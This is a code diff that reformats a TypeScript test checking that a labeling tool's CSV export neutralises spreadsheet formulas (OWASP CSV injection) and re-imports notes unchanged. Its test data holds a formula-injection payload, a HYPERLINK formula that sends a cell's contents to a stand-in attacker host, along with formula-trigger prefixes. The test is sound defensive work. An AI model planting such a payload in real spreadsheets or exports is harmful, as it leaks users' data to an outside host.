@@ -8,7 +8,16 @@ import { rubric, sampleCore } from './testing/label-test-kit';
 
 const tempDir = useTempDir();
 
-const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tindented', '\rcarriage', "'already quoted", 'plain = text'];
+const hostile = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+1+2',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\tindented',
+  '\rcarriage',
+  "'already quoted",
+  'plain = text',
+];
 
 describe('label CSV against spreadsheet formulas (OWASP)', () => {
   it('writes every cell a spreadsheet would evaluate as text, and reads each back as itself', () => {
@@ -25,7 +34,8 @@ describe('label CSV against spreadsheet formulas (OWASP)', () => {
     const dir = tempDir();
     const mine = await sampleCore(dir, 'mine.db');
     const ids = ['rb-0011', 'rb-0012', 'rb-0013', 'rb-0014', 'rb-0015', 'rb-0016', 'rb-0017', 'rb-0018'];
-    for (const [i, note] of hostile.entries()) await mine.invoke('labels.add', { annotator: 'cara', schema: 'category', target: rubric(ids[i]!), value: 'C02', note });
+    for (const [i, note] of hostile.entries())
+      await mine.invoke('labels.add', { annotator: 'cara', schema: 'category', target: rubric(ids[i]!), value: 'C02', note });
     const csv = await mine.invoke('labels.export', { out: join(dir, 'cara.csv'), format: 'csv', annotator: 'cara' });
     const rows = parseCsv(readFileSync(csv.path, 'utf8'));
     const noteColumn = rows[0]!.indexOf('note');
@@ -35,7 +45,9 @@ describe('label CSV against spreadsheet formulas (OWASP)', () => {
     const theirs = await sampleCore(dir, 'theirs.db');
     expect((await theirs.invoke('labels.import', { paths: [csv.path] })).files[0]).toMatchObject({ labels: hostile.length, duplicates: 0, error: null });
     const strip = (labels: { id: number }[]) => labels.map(({ id: _id, ...rest }) => rest);
-    expect(strip((await theirs.invoke('labels.history', { annotator: 'cara' })).labels)).toEqual(strip((await mine.invoke('labels.history', { annotator: 'cara' })).labels));
+    expect(strip((await theirs.invoke('labels.history', { annotator: 'cara' })).labels)).toEqual(
+      strip((await mine.invoke('labels.history', { annotator: 'cara' })).labels),
+    );
     expect((await theirs.invoke('labels.history', { annotator: 'cara' })).labels[0]!.note).toBe(hostile[0]);
     mine.close();
     theirs.close();
